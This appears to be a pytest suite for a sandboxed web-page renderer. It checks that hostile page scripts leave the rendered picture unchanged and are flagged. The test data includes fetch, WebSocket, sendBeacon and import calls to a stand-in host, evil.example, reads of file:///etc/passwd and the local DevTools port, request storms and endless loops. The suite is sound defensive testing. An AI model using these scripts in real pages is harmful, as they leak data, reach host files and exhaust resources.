"""Pages at bay: what a page tries, and a picture of its first document all the same."""

from __future__ import annotations

import pytest

from benchmark.outcome import Failed, Kind
from renderers import web_page
from renderers.web import WebRenderer
from tests.contracts.renderer_contract import fail, render
from tests.pictures import flagged
from tests.renderers.web_sites import page


class TestPagesAtBay:
    """What a page tries, and a picture of its first document all the same."""

    KEPT = "<h1>kept</h1>"

    @pytest.fixture(scope="class")
    def kept(self, web):
        """The picture of the page without any trick."""
        return render(web, page(self.KEPT)).png

    @pytest.fixture(scope="class")
    def drawn(self, web):
        """The picture of a page that says that it was drawn."""
        return render(web, page("<body>drawn")).png

    @pytest.mark.parametrize(
        ("trick", "flag"),
        [
            ("location.href = 'https://evil.example/'", "blocked_navigations (https://evil"),
            ("location = 'about:blank'", "blocked_navigations (about:blank)"),
            ("location = URL.createObjectURL(new Blob(['x']))", "blocked_navigations (blob:"),
            ("setTimeout(() => location.reload(), 300)", "blocked_navigations"),
            ("setInterval(() => alert(1), 100)", ""),
            ("print(); open('https://evil.example/'); confirm(1); prompt(2)", ""),
            ("onbeforeunload = () => 'stay'; history.pushState({}, '', '/deep/page')", ""),
            ("new WebSocket('wss://evil.example/')", "blocked_requests=1 (evil.example)"),
            ("navigator.sendBeacon('https://evil.example/')", "blocked_requests=1 (evil.example)"),
            ("fetch('https://evil.example/').catch(() => 0)", "blocked_requests=1 (evil.example)"),
            ("import('https://evil.example/a.js').catch(() => 0)", "blocked_requests=1"),
            ("navigator.serviceWorker?.register('sw.js').catch(() => 0)", ""),
            ("new Worker('http://site.test/none.js')", "missing_files=1 (/none.js)"),
            ("document.body.append(Object.assign(document.createElement('iframe'),"
             " {src: 'https://evil.example/', hidden: true}))", "blocked_requests=1"),
            ("throw new Error('boom')", "script error: boom"),
            ("fetch('file:///etc/passwd').catch(() => 0)", ""),
        ],
    )  # fmt: skip
    def test_a_trick_changes_nothing_in_the_picture(self, web, kept, trick, flag):
        picture = render(web, page(f"{self.KEPT}<script>{trick}</script>"))
        assert picture.png == kept
        assert flagged(picture, flag) if flag else picture.flags == ()

    def test_a_form_that_submits_itself_is_still_drawn(self, web):
        html = "<h1>kept</h1><form id=f method=post action=/x></form><script>f.submit()</script>"
        assert render(web, page(html)).height == 1080

    def test_a_link_to_a_new_window_is_flagged(self, web):
        html = "<a id=l target=_blank href=http://evil.example/>l</a><script>l.click()</script>"
        assert render(web, page(html)).flags != ()

    @pytest.mark.parametrize(
        ("ask", "message"),
        [
            ("fetch('http://h' + i % 9 + '.example/').catch(() => 0)", "(h0.example, h1.example"),
            ("fetch('/' + 'x'.repeat(9000) + i)", "(/xxxxx"),
            ("new WebSocket('ws://evil.example/' + i)", "(evil.example)"),
        ],
    )
    def test_a_storm_of_requests_is_a_failure(self, web, ask, message):
        storm = f"{self.KEPT}<script>for (let i = 0; i < 600; i++) {ask}</script>"
        failure = fail(web, page(storm))
        assert failure.kind is Kind.RESOURCE_LIMIT
        assert "requests: more than 500 in vain" in failure.message
        assert message in failure.message
        assert render(web, page(self.KEPT)).flags == ()

    def test_a_storm_ends_the_page_at_once(self, web):
        # the page itself would keep its browser busy until the hard limit
        storm = "for (let i = 0; i < 600; i++) fetch('http://h.example/' + i).catch(() => 0);"
        busy = "fetch('/none').finally(() => setTimeout(() => { while (true) {} }, 1))"
        failure = fail(web, page(f"{self.KEPT}<script>{storm}{busy}</script>"))
        assert failure.kind is Kind.RESOURCE_LIMIT

    def test_requests_below_a_storm_are_all_counted(self, web):
        ask = "for (let i = 0; i < 400; i++) fetch('/x' + i); fetch('/x1')"
        picture = render(web, page(f"{self.KEPT}<script>{ask}</script>"))
        assert flagged(picture, "missing_files=400 (/x0, /x1, /x10, …)")

    @pytest.mark.parametrize(
        "trick",
        [
            "Object.defineProperty(document, 'fonts', {value: {ready: new Promise(() => 0)}})",
            "Object.defineProperty(FontFaceSet.prototype, 'ready', {value: new Promise(() => 0)})",
            "Symbol.for = () => 'x'; MessageChannel = CSSStyleSheet = class {}",
            "document.getAnimations = document.querySelectorAll = () => { throw 1 }",
            "try { __rerender.wind = () => new Promise(() => 0) } catch {}",
            "try { Object.defineProperty(window, '__rerender', {value: {}}) } catch {}",
        ],
    )
    def test_what_settles_a_page_cannot_be_overridden(self, web, drawn, trick):
        draw = "setTimeout(() => { document.body.append('drawn') }, 400)"
        picture = render(web, page(f"<body><script>{trick}; {draw}</script>"))
        assert picture.png == drawn
        assert picture.flags == ()

    @pytest.mark.parametrize(
        ("trick", "step"),
        [
            ("for (let i = 0; i < 5000; i++) setInterval(() => 0)", "timers"),
            ("document.body.append(Object.assign(document.createElement('iframe'), {id: 'f',"
             " hidden: true})); f.contentDocument.open()", "loading"),
        ],
    )  # fmt: skip
    def test_steps_that_are_cut_off_are_flagged(self, web, kept, monkeypatch, trick, step):
        monkeypatch.setattr(web_page, "LOAD_SECONDS", 1)
        monkeypatch.setattr(web_page, "WIND_SECONDS", 1)
        picture = render(web, page(f"{self.KEPT}<script>{trick}</script>"))
        assert picture.png == kept
        flags = [flag.message for flag in picture.flags if flag.kind is Kind.TIMEOUT]
        assert flags == [f"cut off before the end: {step}"]

    def test_a_page_that_breaks_a_step_is_flagged(self, web):
        script = "SVGSVGElement.prototype.pauseAnimations = () => { throw new Error('no') }"
        picture = render(web, page(f"{self.KEPT}<svg></svg><script>{script}</script>"))
        assert flagged(picture, "the page broke what settles it: animations")

    def test_steps_together_stay_below_the_hard_limit(self):
        steps = (
            web_page.OPEN_SECONDS,
            web_page.SETTLE_SECONDS,
            web_page.FREEZE_SECONDS,
            web_page.PICTURE_SECONDS,
        )
        assert sum(steps) <= 0.75 * WebRenderer.page_limits.seconds

    def test_endless_dialogues_run_out_of_time(self, hurried_web):
        failure = fail(hurried_web, page("<script>while (true) alert(1)</script>"))
        assert failure.kind is Kind.TIMEOUT

    def test_endless_animation_frames_run_out_of_time(self, hurried_web):
        html = "<p>x<script>(function f() { while (true) {} requestAnimationFrame(f) })</script>"
        html += "<script>requestAnimationFrame(() => { while (true) {} })</script>"
        assert fail(hurried_web, page(html)).kind is Kind.TIMEOUT

    def test_processes_without_end_are_ended(self, hurried_web):
        html = (
            "<p>x<script>for (;;) new Worker(URL.createObjectURL(new Blob(['for(;;);'])))</script>"
        )
        outcome = hurried_web.render(page(html))
        assert isinstance(outcome, Failed)
        assert outcome.kind in (Kind.TIMEOUT, Kind.RESOURCE_LIMIT)
        assert render(hurried_web, page(self.KEPT)).flags == ()

    def test_a_frame_reaches_no_host_file_and_no_network(self, web):
        frames = "".join(
            f"<iframe src='{address}' width=300 height=100></iframe>"
            for address in ("file:///etc/passwd", "file:///", "http://127.0.0.1:9222/json",
                            "chrome://version", "view-source:http://site.test/", "data:text/html,")
        )  # fmt: skip
        blank = "<iframe width=300 height=100></iframe>" * 6
        assert render(web, page(frames)).png == render(web, page(blank)).png

    def test_contexts_share_nothing(self, web):
        write = "localStorage.a = 1; document.cookie = 'b=2'; caches?.open?.('c')"
        read = "document.body.append((localStorage.a || 'none') + (document.cookie || 'none'))"
        for _ in range(3):
            render(web, page(f"<p>x<script>{write}</script>"))
        seen = render(web, page(f"<body><script>{read}</script>"))
        assert seen.png == render(web, page("<body>nonenone")).png
